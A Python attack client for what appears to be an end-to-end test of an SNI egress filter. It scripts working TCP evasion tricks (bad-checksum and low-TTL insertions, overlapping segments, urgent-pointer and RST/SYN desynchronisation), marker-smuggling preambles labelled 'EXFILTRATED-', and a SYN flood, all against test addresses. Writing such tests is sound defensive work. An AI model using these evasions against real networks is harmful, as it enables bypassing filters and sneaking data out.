#!/usr/bin/python3
"""Attack client for tests/e2e/attack_test.sh: runs inside the pod's network namespace.

    attacks.py CASE --dst IP --sport N [--dport P] [--state FILE] [--marker M]
               [--name NAME] [--count N] [--seconds S]
    attacks.py batch            (one "CASE --dst ..." line per case on stdin)

Most cases drive the whole TCP session with scapy (the pod's own stack must not reset
them: the test drops the pod's outgoing RSTs): our own handshake (sr1 for the SYN-ACK),
then the case's segments ~80 ms apart, then a FIN. The usual shape is an "insertion",
a segment carrying a ClientHello for allowed.example that the server's stack discards,
then the "real" ClientHello for denied.example at the same sequence number. Each case
prints one line saying what it sent and what it saw. No case raises: an error is
printed and the next case runs.
"""
import argparse
import hashlib
import json
import os
import random
import shlex
import socket
import struct
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from recorder import parse_client_hello  # noqa: E402

from scapy.all import IP, IPv6, TCP, Raw, AsyncSniffer, HBHOptUnknown, IPv6ExtHdrDestOpt, conf, sr1  # noqa: E402

conf.verb = 0
M32 = 0xFFFFFFFF
GAP = 0.08  # between the case's packets
MIN_CASE = 1.05
ALLOWED, DENIED = "allowed.example", "denied.example"


# ---- ClientHellos ----
def ext(t, body):
    return struct.pack("!HH", t, len(body)) + body


def sni_ext(name):
    n = name.encode()
    return ext(0, struct.pack("!HBH", len(n) + 3, 0, len(n)) + n)


CIPHERS = [0x1301, 0x1302, 0x1303, 0xC02B, 0xC02F, 0xC02C, 0xC030, 0xCCA9, 0xCCA8, 0x00FF]
SIGALGS = [0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501, 0x0806, 0x0601]


def common_exts(seed):
    key = hashlib.sha256(b"key" + seed).digest()
    return (ext(10, b"\x00\x04\x00\x1d\x00\x17")  # supported_groups: x25519, secp256r1
            + ext(11, b"\x01\x00")  # ec_point_formats
            + ext(13, struct.pack("!H", 2 * len(SIGALGS)) + b"".join(struct.pack("!H", a) for a in SIGALGS))
            + ext(43, b"\x04\x03\x04\x03\x03")  # supported_versions: 1.3, 1.2
            + ext(45, b"\x01\x01")  # psk_key_exchange_modes
            + ext(51, struct.pack("!HHH", 36, 0x001D, 32) + key))  # key_share x25519


def record(exts, seed):
    rnd = hashlib.sha256(b"random" + seed).digest()
    sid = hashlib.sha256(b"session" + seed).digest()
    body = (b"\x03\x03" + rnd + bytes([len(sid)]) + sid
            + struct.pack("!H", 2 * len(CIPHERS)) + b"".join(struct.pack("!H", c) for c in CIPHERS)
            + b"\x01\x00" + struct.pack("!H", len(exts)) + exts)
    hs = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs


def client_hello(name, pad_to=None, seed=b"x"):
    """A TLS 1.3/1.2 ClientHello record with one server_name; with pad_to, a padding
    extension (RFC 7685) makes the record exactly pad_to bytes long."""
    exts = sni_ext(name) + common_exts(seed)
    rec = record(exts, seed)
    if pad_to is not None:
        need = pad_to - len(rec) - 4
        if need < 0:
            raise ValueError("hello longer than %d" % pad_to)
        rec = record(exts + ext(21, bytes(need)), seed)
        assert len(rec) == pad_to
    names, err = parse_client_hello(rec)
    assert names == [name], (names, err)
    return rec


def urgent_hello():
    """A ClientHello whose raw bytes name allowed.example and which, once the stack has
    taken out one urgent byte X (and the byte 'e' sent after it has come in), names
    denied.example. In the raw view the extension block starts with X:
      raw: [X 7a | 00 01 | 00]           type 0x7a7a, 1 byte
           [00 00 | 00 14 | ...allowed]  server_name allowed.example
           [4a 4a | 00 fa | 250 bytes]   opaque, hiding the app's server_name (minus 'e')
      app: [7a 00 | 01 00 | 256 bytes]   type 0x7a00, hiding the raw server_name
           [00 00 | 00 13 | ...denied]   server_name denied.example, its last 'e' sent later
    Returns (record, index of X in it, the byte sent after the record)."""
    s = bytearray(283)
    s[0:4] = b"\x7a\x00\x01\x00"
    s[4:28] = sni_ext(ALLOWED)
    s[28:32] = b"\x4a\x4a\x00\xfa"
    s[260:283] = sni_ext(DENIED)
    x = 0x7A
    raw_block = bytes([x]) + bytes(s[:282])
    shared = common_exts(b"urg")
    rec = record(shared + raw_block, b"urg")
    idx = len(rec) - len(raw_block)
    assert rec[idx] == x
    app = rec[:idx] + rec[idx + 1:] + bytes(s[282:283])
    assert parse_client_hello(rec)[0] == [ALLOWED], parse_client_hello(rec)
    assert parse_client_hello(app)[0] == [DENIED], parse_client_hello(app)
    return rec, idx, bytes(s[282:283])


def same_length_pair(seed):
    """Two ClientHellos of one length that differ only in the 15 bytes of the name:
    allowed.example and denied.example. (a trailing dot, which names ignore). Returns
    (allowed, denied, offset of the name)."""
    a = client_hello(ALLOWED, seed=seed)
    d = client_hello(DENIED + ".", seed=seed)
    assert len(a) == len(d)
    off = a.index(ALLOWED.encode())
    assert a[:off] == d[:off] and a[off + 15:] == d[off + 15:]
    return a, d, off


# ---- a TCP session of our own ----
class Conn:
    def __init__(self, dst, sport, dport=443, isn=None, ts=False):
        self.dst, self.sport, self.dport = dst, sport, dport
        self.v6 = ":" in dst
        self.isn = random.randrange(1 << 32) if isn is None else isn
        self.seq = (self.isn + 1) & M32
        self.ack = 0
        self.sisn = None
        self.ts = ts
        self.tsval = random.randrange(1 << 20, 1 << 30)
        self.tsecr = 0
        self.sock = conf.L3socket6() if self.v6 else conf.L3socket()

    def ip(self, **kw):
        return IPv6(dst=self.dst, **kw) if self.v6 else IP(dst=self.dst, **kw)

    def opts(self, tsval=None):
        if not self.ts:
            return []
        return [("NOP", None), ("NOP", None), ("Timestamp", (self.tsval if tsval is None else tsval, self.tsecr))]

    def seg(self, data=b"", flags="PA", seq=None, ack=None, ip=None, options=None, ext6=None, **tcp):
        t = TCP(sport=self.sport, dport=self.dport, flags=flags, window=64240,
                seq=self.seq if seq is None else seq & M32,
                ack=(self.ack if ack is None else ack & M32) if "A" in flags else 0,
                options=self.opts() if options is None else options, **tcp)
        p = self.ip(**(ip or {}))
        p = p / ext6 / t if ext6 is not None else p / t
        return p / Raw(data) if data else p

    def adv(self, n):
        self.seq = (self.seq + n) & M32

    def send(self, pkt, pause=GAP):
        self.sock.send(pkt)
        if pause:
            time.sleep(pause)

    def syn(self, isn=None, data=b"", ip=None):
        o = [("MSS", 1460)]
        if self.ts:
            o += [("NOP", None), ("NOP", None), ("Timestamp", (self.tsval, 0))]
        isn = self.isn if isn is None else isn
        t = TCP(sport=self.sport, dport=self.dport, flags="S", seq=isn, window=64240, options=o)
        p = self.ip(**(ip or {})) / t
        return p / Raw(data) if data else p

    def take_synack(self, r, isn):
        if r is None or TCP not in r or (r[TCP].flags & 0x12) != 0x12 or r[TCP].ack != (isn + 1) & M32:
            return False
        self.sisn = r[TCP].seq
        self.ack = (self.sisn + 1) & M32
        for k, v in r[TCP].options:
            if k == "Timestamp":
                self.tsecr = v[0]
        return True

    def handshake(self, syn_data=b""):
        p = self.syn(data=syn_data)
        r = sr1(p, timeout=1.5, retry=1, verbose=0)
        if not self.take_synack(r, self.isn):
            raise RuntimeError("no SYN-ACK")
        self.tsval += 10
        self.send(self.seg(flags="A"))
        return r

    def fin(self, pause=0.4):
        time.sleep(pause)
        self.send(self.seg(flags="FA"), pause=0)

    def state(self):
        return {"dst": self.dst, "sport": self.sport, "dport": self.dport, "isn": self.isn,
                "seq": self.seq, "ack": self.ack, "ts": self.ts, "tsval": self.tsval, "tsecr": self.tsecr}

    @classmethod
    def from_state(cls, st):
        c = cls(st["dst"], st["sport"], st["dport"], isn=st["isn"], ts=st["ts"])
        c.seq, c.ack, c.tsval, c.tsecr = st["seq"], st["ack"], st["tsval"], st["tsecr"]
        return c


def bad_checksum(pkt):
    good = pkt.__class__(bytes(pkt))[TCP].chksum
    pkt[TCP].chksum = good ^ 0x5A5A
    return pkt


def hellos(c):
    seed = str(c.sport).encode()
    return client_hello(ALLOWED, seed=seed), client_hello(DENIED, seed=seed)


def sniffer(c, extra=""):
    """Captures the server's packets to this connection (started before returning)."""
    flt = "tcp and src port %d and dst port %d%s" % (c.dport, c.sport, extra)
    ready = threading.Event()
    s = AsyncSniffer(iface="eth0", filter=flt, store=True, started_callback=ready.set)
    s.start()
    ready.wait(2)
    time.sleep(0.05)
    return s


def origin(p):
    """Who sent a packet that carries the server's address: the server's come two hops
    (TTL 62), the node's own resets (REJECT) none (64)."""
    ttl = p[IPv6].hlim if IPv6 in p else p[IP].ttl
    return {62: "server", 64: "node"}.get(ttl, "ttl %d" % ttl)


def flags_of(pkts):
    return ", ".join("%s %s(seq=%d ack=%d len=%d)" % (origin(p), p[TCP].flags, p[TCP].seq, p[TCP].ack,
                                                     len(p[TCP].payload))
                     for p in pkts if TCP in p)


# ---- the cases ----
def insertion_then_real(c, insertion, note):
    a, d = hellos(c)
    c.handshake()
    c.send(insertion(c, a))
    c.send(c.seg(d))
    c.adv(len(d))
    c.fin()
    return note


def honest(c, hello, note):
    c.handshake()
    c.send(c.seg(hello))
    c.adv(len(hello))
    c.fin()
    return note


def case_control_allowed(c, args):
    return honest(c, hellos(c)[0], "honest handshake and allowed ClientHello")


def case_control_denied(c, args):
    return honest(c, hellos(c)[1], "honest handshake and denied ClientHello")


def case_bad_checksum(c, args):
    return insertion_then_real(c, lambda c, h: bad_checksum(c.seg(h)), "insertion with a wrong TCP checksum")


def case_ttl(c, args):
    kw = {"hlim": 2} if c.v6 else {"ttl": 2}
    return insertion_then_real(c, lambda c, h: c.seg(h, ip=kw), "insertion with %s 2" % ("hop limit" if c.v6 else "TTL"))


def case_mtu_df(c, args):
    def ins(c, h):
        big = client_hello(ALLOWED, pad_to=1400 - (60 if c.v6 else 40), seed=str(c.sport).encode())
        p = c.seg(big, ip={} if c.v6 else {"flags": "DF"})
        return p
    return insertion_then_real(c, ins, "insertion of 1400 bytes%s (the router's next link is 1280)" % ("" if c.v6 else " with DF"))


def case_no_ack(c, args):
    return insertion_then_real(c, lambda c, h: c.seg(h, flags="P"), "insertion without ACK")


def case_bad_ack(c, args):
    return insertion_then_real(c, lambda c, h: c.seg(h, ack=c.sisn + 1 + 100000),
                               "insertion acknowledging 100000 bytes never sent")


def case_paws(c, args):
    c.ts = True
    c.tsval = random.randrange(1 << 24, 1 << 30)
    syn_ts = c.tsval
    a, d = hellos(c)
    c.handshake()
    c.send(c.seg(a, options=c.opts(tsval=(syn_ts - 100000) & M32)))
    c.send(c.seg(d, options=c.opts(tsval=syn_ts + 20)))
    c.adv(len(d))
    c.tsval = syn_ts + 30
    c.fin()
    return "timestamps negotiated (SYN TSval %d, server TSval %d); insertion TSval %d, real %d" % (
        syn_ts, c.tsecr, (syn_ts - 100000) & M32, syn_ts + 20)


def case_md5(c, args):
    opts = [(19, bytes(16)), ("NOP", None), ("NOP", None)]
    return insertion_then_real(c, lambda c, h: c.seg(h, options=opts), "insertion with a TCP-MD5 option")


def case_synack_data(c, args):
    # SYN flag: the data starts at seq + 1, so seq = ISN puts it where the real one is
    return insertion_then_real(c, lambda c, h: c.seg(h, flags="SA", seq=c.isn),
                               "insertion with SYN+ACK flags and the ClientHello as payload")


def case_syn_data(c, args):
    a, d = hellos(c)
    r = sr1(c.syn(data=a), timeout=1.5, verbose=0)
    note = "SYN carried the allowed ClientHello"
    if not c.take_synack(r, c.isn):
        # the SYN with data got nowhere (dropped on the way?): an attacker retries without
        r = sr1(c.syn(), timeout=1.5, retry=1, verbose=0)
        if not c.take_synack(r, c.isn):
            raise RuntimeError("no SYN-ACK, with or without data")
        note += ", got no answer; a plain SYN (same ISN) did"
    else:
        note += "; the SYN-ACK acked ISN+1 (the data was not taken)"
    c.send(c.seg(flags="A"))
    c.send(c.seg(d))
    c.adv(len(d))
    c.fin()
    return note + "; then the denied one at ISN+1"


def case_resyn(c, args):
    a, d = hellos(c)
    c.handshake()
    s = sniffer(c)
    isn_b = (c.isn + 0x40000000) & M32
    c.send(c.syn(isn=isn_b), pause=0.3)
    c.send(c.seg(a, seq=isn_b + 1))
    c.send(c.seg(d))
    c.adv(len(d))
    c.fin()
    got = s.stop()
    return "handshake ISN A=%d, second SYN ISN B=%d (server answered: %s), allowed at B+1, denied at A+1" % (
        c.isn, isn_b, flags_of(got[:3]) or "nothing")


def resyn_behind_ttl(c, reset):
    """Handshake with ISN A; then (a RST and) a SYN with ISN B and the allowed ClientHello at
    B+1, all with a TTL of 2 so that they die at the router; then the denied one at A+1."""
    a, d = hellos(c)
    c.handshake()
    kw = {"hlim": 2} if c.v6 else {"ttl": 2}
    isn_b = (c.isn + 0x40000000) & M32
    if reset:
        c.send(c.seg(flags="R", ack=0, ip=kw))
    c.send(c.syn(isn=isn_b, ip=kw))
    c.send(c.seg(a, seq=isn_b + 1, ip=kw))
    c.send(c.seg(d))
    c.adv(len(d))
    c.fin()
    return ("handshake ISN A; %s SYN (ISN B) and the allowed ClientHello at B+1, all with %s 2 "
            "(they die at the router); denied at A+1" % ("a RST, a" if reset else "a second",
                                                          "hop limit" if c.v6 else "TTL"))


def case_resyn_ttl(c, args):
    return resyn_behind_ttl(c, False)


def case_rst_ttl_resyn(c, args):
    return resyn_behind_ttl(c, True)


def case_v6_dstopt(c, args):
    if not c.v6:
        raise RuntimeError("IPv6 only")
    opt = IPv6ExtHdrDestOpt(options=[HBHOptUnknown(otype=0x80, optdata=bytes(4))])
    return insertion_then_real(c, lambda c, h: c.seg(h, ext6=opt),
                               "insertion with a Destination Options header holding an unknown option "
                               "of type 0x80 (the destination must discard the packet)")


def case_two_syns(c, args):
    a, d = hellos(c)
    isn_a, isn_b = c.isn, (c.isn + 0x80000000) & M32
    s = sniffer(c)
    c.send(c.syn(isn=isn_a), pause=0.02)
    c.send(c.syn(isn=isn_b), pause=0.8)
    got = s.stop()
    synacks = [p for p in got if TCP in p and (p[TCP].flags & 0x12) == 0x12]
    if not synacks:
        raise RuntimeError("no SYN-ACK (server sent: %s)" % (flags_of(got) or "nothing"))
    acked = (synacks[0][TCP].ack - 1) & M32
    if acked not in (isn_a, isn_b):
        raise RuntimeError("SYN-ACK acks neither SYN")
    other = isn_b if acked == isn_a else isn_a
    c.isn = acked
    c.take_synack(synacks[0], acked)
    c.seq = (acked + 1) & M32
    c.send(c.seg(flags="A"))
    c.send(c.seg(a, seq=other + 1))
    c.send(c.seg(d))
    c.adv(len(d))
    c.fin()
    return "SYN A=%d then SYN B=%d; the server acked %s (it sent: %s); allowed on the other, denied on it" % (
        isn_a, isn_b, "A" if acked == isn_a else "B", flags_of(got))


def case_reuse(c, args):
    a, d = hellos(c)
    c.handshake()
    s = sniffer(c)
    c.send(c.seg(a), pause=0.6)
    got = s.stop()
    rst = [p for p in got if TCP in p and p[TCP].flags & 0x04]
    if not rst:
        raise RuntimeError("the server did not reset the first connection (it sent: %s)" % (flags_of(got) or "nothing"))
    first = c.isn
    c2 = Conn(c.dst, c.sport, c.dport, isn=(c.isn + 0x20000000) & M32)
    c2.handshake()
    c2.send(c2.seg(d))
    c2.adv(len(d))
    c2.fin()
    return "connection 1 (ISN %d): allowed ClientHello, reset by the server; connection 2 on the same 4-tuple (ISN %d): denied ClientHello" % (first, c2.isn)


def case_reuse_client_rst(c, args):
    a, d = hellos(c)
    c.handshake()
    c.send(c.seg(a), pause=0.3)
    c.adv(len(a))
    c.send(c.seg(flags="R", ack=0), pause=0.3)
    first = c.isn
    c2 = Conn(c.dst, c.sport, c.dport, isn=(c.isn + 0x20000000) & M32)
    c2.handshake()
    c2.send(c2.seg(d))
    c2.adv(len(d))
    c2.fin()
    return ("connection 1 (ISN %d): allowed ClientHello, then our own RST; connection 2 on the same "
            "4-tuple (ISN %d): denied ClientHello" % (first, c2.isn))


def case_urgent(c, args):
    rec, idx, tail = urgent_hello()
    c.handshake()
    c.send(c.seg(rec, flags="PAU", urgptr=idx + 1), pause=0.3)
    c.adv(len(rec))
    c.send(c.seg(tail))
    c.adv(len(tail))
    c.fin()
    return "URG segment, urgent byte at offset %d: raw view names %s, the app's view (and 1 more byte) names %s" % (
        idx, ALLOWED, DENIED)


def case_rst_ttl(c, args):
    _, d = hellos(c)
    c.handshake()
    kw = {"hlim": 2} if c.v6 else {"ttl": 2}
    c.send(c.seg(flags="R", ack=0, ip=kw))
    c.send(c.seg(d))
    c.adv(len(d))
    c.fin()
    return "RST with TTL 2 (dies at the router), then the denied ClientHello"


def case_fin_badsum(c, args):
    _, d = hellos(c)
    c.handshake()
    c.send(bad_checksum(c.seg(flags="FA")))
    c.send(c.seg(d))
    c.adv(len(d))
    c.fin()
    return "FIN with a wrong checksum, then the denied ClientHello"


def case_overlap_inorder(c, args):
    al, de, off = same_length_pair(str(c.sport).encode())
    c.handshake()
    c.send(c.seg(de[:off + 15]))
    c.send(c.seg(al[off:], seq=c.seq + off))
    c.adv(len(de))
    c.fin()
    return "in order: denied bytes [0,%d), then allowed bytes [%d,%d) (the name's 15 bytes overlap, differing)" % (
        off + 15, off, len(al))


def case_overlap_ooo(c, args):
    al, de, off = same_length_pair(str(c.sport).encode())
    c.handshake()
    c.send(c.seg(al[off:], seq=c.seq + off))
    c.send(c.seg(de[:off + 15]))
    c.adv(len(de))
    c.fin()
    return "out of order: allowed bytes [%d,%d) first, then denied bytes [0,%d) (overlap on the name)" % (
        off, len(al), off + 15)


def case_ofo_replace(c, args):
    al, de, off = same_length_pair(str(c.sport).encode())
    c.handshake()
    c.send(c.seg(al[off:], seq=c.seq + off))
    c.send(c.seg(de[off - 1:], seq=c.seq + off - 1))
    c.send(c.seg(de[:off - 1]))
    c.adv(len(de))
    c.fin()
    return "out of order: allowed bytes [%d,end), then denied bytes [%d,end) covering them, then [0,%d)" % (
        off, off - 1, off - 1)


def case_ip_options(c, args):
    _, d = hellos(c)
    c.handshake()
    if c.v6:
        raise RuntimeError("IPv4 only")
    from scapy.all import IPOption_RR, IPOption_NOP
    c.send(c.seg(d, ip={"options": [IPOption_NOP(), IPOption_RR(routers=["0.0.0.0"] * 2)]}))
    c.adv(len(d))
    c.fin()
    return "the denied ClientHello in a packet with IP options (NOP, Record Route)"


def case_doff_short(c, args):
    def ins(c, h):
        raw = bytearray(bytes(c.seg(h)))
        ihl = 40 if c.v6 else (raw[0] & 0x0F) * 4
        raw[ihl + 12] = (4 << 4) | (raw[ihl + 12] & 0x0F)  # data offset 4: 16 bytes
        p = (IPv6 if c.v6 else IP)(bytes(raw))
        del p[TCP].chksum
        return (IPv6 if c.v6 else IP)(bytes(p))
    return insertion_then_real(c, ins, "insertion whose TCP data offset says 16 bytes (less than the header)")


# ---- cases over the pod's own stack ----
def kconnect(dst, sport, dport):
    s = socket.socket(socket.AF_INET6 if ":" in dst else socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.bind(("", sport))
    s.settimeout(3)
    s.connect((dst, dport))
    return s


def ksend(s, data, what):
    try:
        s.sendall(data)
        return what + " sent"
    except OSError as e:
        return what + " failed (%s)" % e.strerror


def krecv(s, timeout=1.5):
    s.settimeout(timeout)
    try:
        return s.recv(4096)
    except socket.timeout:
        return b"(nothing)"
    except OSError as e:
        return ("(%s)" % e.strerror).encode()


def req(host):
    return ("GET / HTTP/1.1\r\nHost: %s\r\nUser-Agent: attack\r\n\r\n" % host).encode()


def case_keepalive(c, args):
    s = kconnect(args.dst, args.sport, 80)
    notes = [ksend(s, req(ALLOWED), "request 1 (allowed Host)"), "reply %r" % krecv(s)]
    time.sleep(0.2)
    second = "allowed" if args.name == ALLOWED else "denied"
    notes += [ksend(s, req(args.name), "request 2 (%s Host)" % second), "reply %r" % krecv(s)]
    s.close()
    return "; ".join(notes)


def case_pipelined(c, args):
    s = kconnect(args.dst, args.sport, 80)
    notes = [ksend(s, req(ALLOWED) + req(DENIED), "both requests in one segment"), "reply %r" % krecv(s)]
    s.close()
    return "; ".join(notes)


def marker(args):
    return args.marker.encode()


def case_pre_ehlo(c, args):
    s = kconnect(args.dst, args.sport, args.dport)
    m = marker(args)
    body = (m * (400 // len(m) + 1))[:400]
    notes = [ksend(s, b"EHLO " + body + b"\r\n", "EHLO with 400 bytes of marker"), "reply %r" % krecv(s, 1.0)]
    s.close()
    return "; ".join(notes)


def case_pre_proxy2(c, args):
    s = kconnect(args.dst, args.sport, args.dport)
    m = marker(args)
    tlvs = b""
    while len(tlvs) < 480:
        v = (m * 8)[:min(100, 480 - len(tlvs) - 3)]
        tlvs += bytes([0xE0]) + struct.pack("!H", len(v)) + v
    addrs = socket.inet_aton("10.244.0.10") + socket.inet_aton(args.dst) + struct.pack("!HH", args.sport, args.dport)
    hdr = b"\r\n\r\n\x00\r\nQUIT\n" + b"\x21\x11" + struct.pack("!H", len(addrs) + len(tlvs)) + addrs + tlvs
    notes = [ksend(s, hdr, "PROXY v2 header, %d bytes, %d of TLVs" % (len(hdr), len(tlvs))), "reply %r" % krecv(s, 1.0)]
    s.close()
    return "; ".join(notes)


def case_pre_socks5(c, args):
    s = kconnect(args.dst, args.sport, args.dport)
    m = marker(args)
    notes = [ksend(s, b"\x05\x01\x02", "greeting offering user/password"), "reply %r" % krecv(s, 0.8)]
    notes.append(ksend(s, b"\x01" + bytes([len(m)]) + m + bytes([len(m)]) + m, "user/password with the marker"))
    notes.append("reply %r" % krecv(s, 0.8))
    s.close()
    return "; ".join(notes)


def case_pre_socks4(c, args):
    s = kconnect(args.dst, args.sport, args.dport)
    m = marker(args)
    msg = b"\x04\x01" + struct.pack("!H", 443) + socket.inet_aton("198.51.100.10") + m + b"\x00"
    notes = [ksend(s, msg, "SOCKS4 CONNECT with the marker as user id"), "reply %r" % krecv(s, 1.0)]
    s.close()
    return "; ".join(notes)


# ---- cases across a daemon restart, a flood, an idle wait ----
def case_hs_save(c, args):
    c.handshake()
    with open(args.state, "w") as f:
        json.dump(c.state(), f)
    return "handshake done, state saved (ISN %d)" % c.isn


def case_send_saved(c, args):
    with open(args.state) as f:
        c = Conn.from_state(json.load(f))
    seed = str(c.sport).encode()
    h = client_hello(args.name, seed=seed)
    c.send(c.seg(h))
    c.adv(len(h))
    c.fin()
    return "ClientHello for %s on the saved connection" % args.name


def case_flood(c, args):
    sock = c.sock
    for i in range(args.count):
        sock.send(c.ip() / TCP(sport=args.sport + i, dport=c.dport, flags="S", seq=random.randrange(1 << 32),
                               window=64240, options=[("MSS", 1460)]))
    return "%d SYNs from ports %d-%d" % (args.count, args.sport, args.sport + args.count - 1)


def case_sleep(c, args):
    time.sleep(args.seconds)
    return "slept %.1f s" % args.seconds


NO_CONN = {"keepalive", "pipelined", "pre_ehlo", "pre_proxy2", "pre_socks5", "pre_socks4", "sleep"}


def run(argv):
    ap = argparse.ArgumentParser(prog="attacks.py")
    ap.add_argument("case")
    ap.add_argument("--dst", default="198.51.100.10")
    ap.add_argument("--sport", type=int, default=20000)
    ap.add_argument("--dport", type=int, default=443)
    ap.add_argument("--state")
    ap.add_argument("--name", default=DENIED)
    ap.add_argument("--marker", default="EXFILTRATED-")
    ap.add_argument("--count", type=int, default=200)
    ap.add_argument("--seconds", type=float, default=1.0)
    a = ap.parse_args(argv)
    fn = globals().get("case_" + a.case)
    if fn is None:
        print("%s: no such case" % a.case, flush=True)
        return 2
    try:
        c = None if a.case in NO_CONN else Conn(a.dst, a.sport, a.dport)
        note = fn(c, a)  # a: the case's arguments
        print("  %s sport=%d: %s" % (a.case, a.sport, note), flush=True)
        return 0
    except Exception as e:  # one case's trouble must not stop the others
        print("  %s sport=%d: ERROR %s: %s" % (a.case, a.sport, type(e).__name__, e), flush=True)
        return 1


def main():
    if len(sys.argv) > 1 and sys.argv[1] == "batch":
        # a case lasts at least MIN_CASE seconds, so that the daemon's 1 s window for
        # repeated denies writes each case's decision in full
        rc = 0
        for line in sys.stdin:
            if line.strip() and not line.startswith("#"):
                t0 = time.monotonic()
                rc |= run(shlex.split(line))
                time.sleep(max(0.0, MIN_CASE - (time.monotonic() - t0)))
        return rc
    return run(sys.argv[1:])


if __name__ == "__main__":
    sys.exit(main())
